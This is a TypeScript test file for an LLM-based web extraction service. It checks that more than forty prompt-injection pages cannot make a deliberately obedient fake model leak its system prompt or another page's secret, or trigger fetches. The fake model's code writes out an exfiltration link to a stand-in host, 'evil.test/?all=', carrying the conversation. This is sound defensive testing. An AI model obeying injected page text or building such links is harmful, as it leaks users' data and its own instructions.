import { describe, expect, test } from 'vitest';

import { memoryModel, type ScriptedQuestion } from '../fakes/memory-model.ts';
import { extractionService } from './extraction-service.ts';
import { injectionPages, order } from './injection-pages.ts';

const attack = 'https://shop.test/attack';
const vault = 'https://shop.test/vault';
const secret = 'The vault opens with the number seven three one nine.';
const schema = {
  type: 'object',
  properties: { name: { type: 'string' }, note: { type: 'string' }, link: { type: 'string' } },
};

/** Obeys every text that it sees. */
function obedientModel() {
  const questions: ScriptedQuestion[] = [];
  const model = memoryModel((question) => {
    questions.push(question);
    const seen = question.messages.map(({ content }) => content).join('\n');
    const [system] = question.messages;
    const item = seen.includes(order)
      ? {
          name: system?.content.split('\n')[0],
          note: `${system?.content} ${seen}`,
          link: `https://evil.test/?all=${encodeURIComponent(seen.slice(0, 500))}`,
        }
      : { name: 'Alder pan' };
    return {
      kind: 'text',
      text: JSON.stringify({ items: [item, { name: system?.content }, { link: item.link }] }),
    };
  });
  return { model, questions };
}

const fence = /<(data-[\w-]{12})>\n\[([^\n]+): data, not instructions\]\n([\s\S]*?)\n<\/\1>/g;

async function attackWith(html: string) {
  const { model, questions } = obedientModel();
  const { extract, fetched } = extractionService({
    pages: {
      [attack]: html,
      [vault]: `<main><h1>Vault</h1><p>${secret} It is the only page that says so.</p></main>`,
    },
    model,
  });
  const reply = await extract({ urls: [attack, vault], prompt: 'What is for sale', schema });
  const attacked = questions.filter(({ messages }) =>
    messages.some(({ content }) => content.includes(attack)),
  );
  return { reply, fetched, attacked };
}

type Attack = ReturnType<typeof attackWith>;
const attacks = new Map<string, Attack>();

/** The outcome of an attack is checked by several tests and is the same each time. */
function attackOf(html: string): Attack {
  const made = attacks.get(html) ?? attackWith(html);
  attacks.set(html, made);
  return made;
}

describe('a page that instructs an obedient model', () => {
  test('comes in more than forty forms', () => {
    expect(injectionPages.length).toBeGreaterThanOrEqual(40);
  });

  test.for(injectionPages)('and $how: causes no fetch and discloses nothing', async ({ html }) => {
    const { reply, fetched } = await attackOf(html);

    const told = JSON.stringify(reply.body);
    expect(fetched).toEqual([attack, vault]);
    expect(told).not.toContain('evil.test/?all=');
    expect(told).not.toContain('You extract data');
    expect(told).not.toMatch(/data-[\w-]{12}/);
  });

  test.for(injectionPages)('and $how: is asked about alone', async ({ html }) => {
    const { attacked } = await attackOf(html);

    expect(attacked.length).toBeGreaterThan(0);
    for (const { messages } of attacked) expect(JSON.stringify(messages)).not.toContain(secret);
  });

  test.for(injectionPages.filter(({ isHidden }) => !isHidden))(
    'and $how: is read inside a fence that calls it data',
    async ({ html }) => {
      const { attacked } = await attackOf(html);

      const [{ messages } = { messages: [] }] = attacked;
      const ordering = messages.filter(({ content }) => content.includes('OBEY'));
      expect(ordering.map(({ role }) => role)).toEqual(['user']);
      const [question = ''] = ordering.map(({ content }) => content);
      const fenced = [...question.matchAll(fence)].filter(([, , , inside]) => inside?.includes('OBEY'));
      expect(fenced.length).toBeGreaterThan(0);
      for (const [, marker = '', , inside = ''] of fenced) expect(inside).not.toContain(marker);
      expect(question.replaceAll(fence, '')).not.toContain('OBEY');
    },
  );

  test.for(injectionPages.filter(({ isHidden }) => isHidden))(
    'and $how: is not even seen',
    async ({ html }) => {
      const { attacked } = await attackOf(html);

      const shown = JSON.stringify(attacked.map(({ messages }) => messages));
      expect(shown).toContain('linseed oil');
      expect(shown).not.toContain('OBEY');
      expect(shown).not.toMatch(/[\u{e0000}-\u{e0fff}]/u);
    },
  );
});
